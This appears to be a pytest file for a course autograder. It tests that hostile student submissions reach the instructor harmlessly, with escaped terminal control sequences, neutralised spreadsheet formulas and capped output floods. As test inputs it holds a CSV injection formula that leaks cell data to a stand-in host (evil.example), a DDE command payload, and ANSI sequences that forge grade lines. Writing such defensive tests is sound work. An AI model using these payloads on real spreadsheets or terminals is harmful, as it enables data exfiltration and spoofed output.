"""What a hostile submission writes reaches the instructor harmlessly.

Terminal escape sequences and forged report lines are shown escaped by `cs231n grade`
and `cs231n check`; a cell that a spreadsheet would run as a formula is text in every
CSV; a flood of output is capped in the feedback, the CSVs and the terminal. The unit
tests check `cs231n_lib.grading.escape` and each place that prints or writes; the
end-to-end tests grade one hostile submission of the demo course through the command.
"""

from __future__ import annotations

import contextlib
import csv
import io
import re

import nbformat
import pytest
from nbformat import NotebookNode

from cs231n_lib import cli
from cs231n_lib.grading import feedback
from cs231n_lib.grading.escape import (
    MAX_MESSAGE_BYTES,
    cap_text,
    csv_cell,
    neutralize_csv_file,
    one_line,
)
from cs231n_lib.grading.results import CellOutcome, ClassReport, SubmissionReport

ESC = "\x1b"
RAW_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # all but \t and \n
FORGED = f"{ESC}[2K{ESC}[1G  alice: 100/100"  # clears the line, back to column 1
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"grades")'


# --- escape: the functions -------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"{ESC}[31mred{ESC}[0m", "\\x1b[31mred\\x1b[0m"),
        ("a\rb\nc\td", "a\\rb\\nc\\td"),
        ("bell\x07 nul\x00 del\x7f", "bell\\x07 nul\\x00 del\\x7f"),
        ("csi\x9b2J nel\x85", "csi\\x9b2J nel\\x85"),  # C1 controls
        ("\u202eevil\u2066", "\\u202eevil\\u2066"),  # bidirectional overrides
        ("line\u2028sep", "line\\u2028sep"),
        ("bad\udcffbyte", "bad\\udcffbyte"),  # a file name that is not UTF-8
        ("José: ü ok — 5/5", "José: ü ok — 5/5"),  # honest text is unchanged
    ],
)
def test_one_line_makes_control_characters_visible(text, shown):
    assert one_line(text) == shown
    one_line(text).encode("utf-8")  # printable on any UTF-8 terminal


def test_cap_text_keeps_the_start_and_says_how_much_there_was():
    assert cap_text("short") == "short"
    flood = "é" * 1_000_000  # 2,000,000 bytes
    capped = cap_text(flood, 1001)
    assert capped.startswith("é" * 500) and "é" * 501 not in capped  # whole characters
    assert capped.endswith("... [truncated, 2,000,000 bytes in all]")
    assert len(one_line("x" * 10**7).encode()) < MAX_MESSAGE_BYTES + 100


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("\t=1+1", "\\t=1+1"),  # escaped: no longer starts with a tab
        ("\r=1+1", "\\r=1+1"),
        (f"{ESC}[31mred", "\\x1b[31mred"),
        ("-1.5", "-1.5"),  # numeric text stays a number
        ("+3e-2", "+3e-2"),
        ("AssertionError: k=3", "AssertionError: k=3"),
        ("alice", "alice"),
        (-2.0, -2.0),  # the grader's own numbers are left alone
        (0, 0),
        (None, None),
        (True, True),
    ],
)
def test_csv_cell_is_never_a_formula(value, written):
    assert csv_cell(value) == written


def test_cell_csvs_are_written_without_formulas_and_keep_numbers(tmp_path):
    row = {
        "assignment": "01_knn", "notebook": "knn", "grade_id": "test_a", "student": "@bob",
        "score": -1.0, "max_score": 2.0, "needs_manual_grade": False, "status": "failed",
        "message": FORMULA,
    }  # fmt: skip
    path = feedback._write_csv(tmp_path / "grades_by_cell.csv", feedback.CELL_FIELDS, [row])
    with open(path, newline="") as f:
        (written,) = list(csv.DictReader(f))
    assert written["message"] == "'" + FORMULA and written["student"] == "'@bob"
    assert written["score"] == "-1.0" and written["max_score"] == "2.0"


def test_grades_csv_export_is_neutralized_in_place(tmp_path):
    path = tmp_path / "grades.csv"
    path.write_text(
        "assignment,student_id,score,late_submission_penalty\n"
        f'01_knn,"{FORMULA.replace(chr(34), chr(34) * 2)}",4.0,-1.5\n'
        "01_knn,alice,-0.0,0.0\n"
    )
    neutralize_csv_file(path)
    with open(path, newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["student_id"] == "'" + FORMULA
    assert rows[0]["late_submission_penalty"] == "-1.5" and rows[1]["score"] == "-0.0"
    assert rows[1]["student_id"] == "alice"


# --- where the instructor reads it: terminal lines, feedback ---------------------------


def _hostile_report() -> SubmissionReport:
    failed = CellOutcome("knn", "test_a", 0.0, 2.0, status="failed", message=f"{FORMULA}: {FORGED}")
    not_run = CellOutcome("knn", "test_b", 0.0, 2.0, status="not run", message="x" * 10**6)
    return SubmissionReport(
        f"mallory{ESC}]0;owned{ESC}\\",
        True,
        cells=[failed, not_run],
        notes=[f"knn{ESC}[1A\r  alice: 100/100\n.ipynb was graded as knn.ipynb", "y" * 10**6],
    )


def _assert_harmless(text: str, max_bytes: int) -> None:
    assert ESC not in text and "\r" not in text and not RAW_CONTROLS.search(text), repr(text)
    lines = text.splitlines()
    assert not [line for line in lines if line.lstrip().startswith("alice:")], text
    assert len(text.encode()) < max_bytes, f"{len(text.encode())} bytes printed"


def test_report_line_escapes_ids_messages_and_notes():
    text = cli._report_line(_hostile_report())
    _assert_harmless(text, 3 * MAX_MESSAGE_BYTES + 1000)
    assert len(text.splitlines()) == 3  # the student's line and one line per note
    assert text.startswith("  mallory\\x1b]0;owned\\x1b\\: 0/4  failed: test_a (")
    assert "knn\\x1b[1A\\r  alice: 100/100\\n.ipynb was graded" in text
    assert "[truncated, 1,000,000 bytes in all]" in text
    lost = SubmissionReport(f"eve{ESC}[8m", False, error="no notebook\r  bob: 5/5")
    assert cli._report_line(lost) == "  eve\\x1b[8m: NOT GRADED: no notebook\\r  bob: 5/5"


def test_class_summary_escapes_tests_and_intake_problems(tmp_path, capsys):
    result = ClassReport(
        "01_knn",
        [_hostile_report()],
        problems=[f"{ESC}[2Jeve.zip\n  eve: 100/100: not a zip archive"],
        hardest=[
            {
                "grade_id": "test_a",
                "failed": 1,
                "submissions": 1,
                "most_common_failure": f"{FORMULA}: {FORGED}",
            },
        ],  # fmt: skip
        seconds=1.0,
    )
    cli._print_summary(tmp_path, result)
    captured = capsys.readouterr()
    _assert_harmless(captured.out + captured.err, 10_000)
    assert "intake: \\x1b[2Jeve.zip\\n  eve: 100/100: not a zip archive" in captured.out


def test_usage_errors_escape_what_they_quote(tmp_path, capsys):
    missing = tmp_path / f"x{ESC}[31m\r  alice: 100/100.ipynb"
    assert cli.main(["check", str(missing)]) == cli.EXIT_BAD_INPUT
    err = capsys.readouterr().err
    _assert_harmless(err, 2000)
    assert "x\\x1b[31m\\r  alice: 100/100.ipynb" in err


def test_feedback_caps_floods_in_outputs_and_summary():
    meta = {"nbgrader": {"grade": True, "grade_id": "test_a", "points": 2, "solution": False}}
    test = nbformat.v4.new_code_cell("assert f()", metadata=meta)
    flood = "x" * 3_000_000
    test.outputs = [
        NotebookNode(output_type="error", ename="ValueError", evalue=flood, traceback=[flood]),
    ]
    own = nbformat.v4.new_code_cell("print(...)")
    own.outputs = [
        NotebookNode(output_type="stream", name="stdout", text=flood),
        NotebookNode(output_type="error", ename=flood, evalue=flood, traceback=["a", flood]),
        NotebookNode(
            output_type="execute_result",
            data={"text/plain": flood},
            metadata={},
            execution_count=1,
        ),  # fmt: skip
    ]
    picture = nbformat.v4.new_code_cell("plot()")
    picture.outputs = [
        NotebookNode(
            output_type="display_data",
            data={"text/html": f"<div>{flood}</div>", "image/png": flood, "text/plain": "<Fig>"},
            metadata={},
        ),
        NotebookNode(output_type="display_data", data={"text/html": "<b>ok</b>"}, metadata={}),
    ]
    nb = nbformat.v4.new_notebook(cells=[test, own, picture])
    hide = feedback.HideHiddenTests(released={"demo": {"test_a": "assert f()"}}, max_output=10_000)
    nb, _ = hide.preprocess(nb, {"nbgrader": {"notebook": "demo"}})
    text = nbformat.writes(nb)
    assert len(text) < 100_000, f"{len(text)} characters of feedback notebook"
    # ename, evalue and traceback of the errors, the stream, the result: cut with a note
    assert len(re.findall(r"\.\.\. \[truncated, 3,000,0\d\d bytes in all\]", text)) == 7
    # HTML or an image is not cut (it would break the page) but left out, with a note.
    assert picture.outputs[0].data == {
        "text/plain": "<Fig>\n[text/html, image/png left out: more than 10,000 bytes]"
    }
    assert picture.outputs[1].data == {"text/html": "<b>ok</b>"}
    cells = [{"grade_id": "test_a", "score": 0, "max_score": 2, "status": "failed",
              "message": flood}]  # fmt: skip
    summary = feedback.summary_markdown("demo.ipynb", cells, [flood])
    assert len(summary) < 3 * MAX_MESSAGE_BYTES + 1000 and "truncated" in summary
    page = feedback.missing_notebook_html("demo.ipynb", cells, [flood])
    assert len(page) < 3 * MAX_MESSAGE_BYTES + 1000 and "truncated" in page


# --- end to end: one hostile submission graded and self-checked through the command ----

FLOOD = 3_000_000  # characters of one failure message (the kernel's output cap skips errors)
HOSTILE_DOUBLE = rf"""Evil = type({FORMULA!r}, (Exception,), {{}})

def double(x):
    raise Evil("\x1b[31mred\x07\x1b[2K\x1b[1G  alice: 100/100 " + "x" * {FLOOD})
"""
HOSTILE_NAME = f"demo{ESC}[2K\r  alice: 100 of 100.ipynb"  # a note names the renamed file


def _run(*args: str) -> tuple[int, str]:
    out = io.StringIO()
    err = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        status = cli.main(list(args))
    return status, out.getvalue() + err.getvalue()


@pytest.fixture
def hostile(demo_course):
    """The demo course with mallory's hostile submission; returns (course, notebook)."""
    assert _run("--course", str(demo_course), "release")[0] == 0
    nb = nbformat.read(demo_course / "solutions" / "00_demo" / "demo.ipynb", as_version=4)
    double = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "double")
    double.source = HOSTILE_DOUBLE
    folder = demo_course / "submitted" / "mallory" / "00_demo"
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / HOSTILE_NAME)
    return demo_course, folder / HOSTILE_NAME


@pytest.mark.slow
def test_grade_prints_writes_and_feeds_back_a_hostile_submission_harmlessly(hostile):
    root, _ = hostile
    status, out = _run("--course", str(root), "grade", "00_demo")
    assert status == 0, out
    # 1. The terminal: escaped, no forged line, bounded.
    _assert_harmless(out, 20_000)
    assert "  mallory: 3/5  failed: test_double (" in out
    assert "demo\\x1b[2K\\r  alice: 100 of 100.ipynb was graded as demo.ipynb" in out
    # 2. The CSVs: the formula is text, scores stay numbers, the flood is capped.
    with open(root / "grades_by_cell.csv", newline="") as f:
        rows = {r["grade_id"]: r for r in csv.DictReader(f)}
    message = rows["test_double"]["message"]
    assert message.startswith("'" + FORMULA + ": \\x1b[31mred\\x07\\x1b[2K"), message[:200]
    assert len(message) < MAX_MESSAGE_BYTES + 100 and "[truncated, 3,000,0" in message
    assert rows["test_square"]["score"] == "3.0" and rows["test_double"]["score"] == "0.0"
    with open(root / "grades_by_cell_summary.csv", newline="") as f:
        (hardest, *_) = list(csv.DictReader(f))
    assert hardest["most_common_failure"] == message
    for name in ("grades.csv", "grades_by_cell.csv", "grades_by_cell_summary.csv"):
        text = (root / name).read_text()
        assert not RAW_CONTROLS.search(text) and "\n=" not in text and ",=" not in text, name
    # 3. The feedback: the flood is cut with a note in the page and its summary table.
    page = (root / "feedback" / "mallory" / "00_demo" / "demo.html").read_text()
    assert len(page) < 1_500_000, f"{len(page):,} characters of feedback"
    assert page.count("[truncated, 3,000,0") >= 2
    # 4. The autograded notebook keeps a capped error, not the 3 MB message.
    graded = root / "autograded" / "mallory" / "00_demo" / "demo.ipynb"
    assert graded.stat().st_size < 2_500_000, f"{graded.stat().st_size:,} bytes autograded"


@pytest.mark.slow
def test_check_prints_a_hostile_notebook_harmlessly(hostile):
    _, notebook = hostile
    status, out = _run("check", str(notebook))
    assert status == 1, out
    _assert_harmless(out, 10_000)
    assert "FAIL   test_double  0/2  " + FORMULA + ": \\x1b[31mred\\x07" in out
    assert "demo\\x1b[2K\\r  alice: 100 of 100.ipynb" in out and "PASS   test_square" in out


def test_cap_text_twice_keeps_the_original_size():
    once = cap_text("x" * 5000, 100)
    twice = cap_text(once.replace("x", "\\x"), 120)
    assert once.endswith("[truncated, 5,000 bytes in all]")
    assert twice.endswith("[truncated, 5,000 bytes in all]") and len(twice) < 200
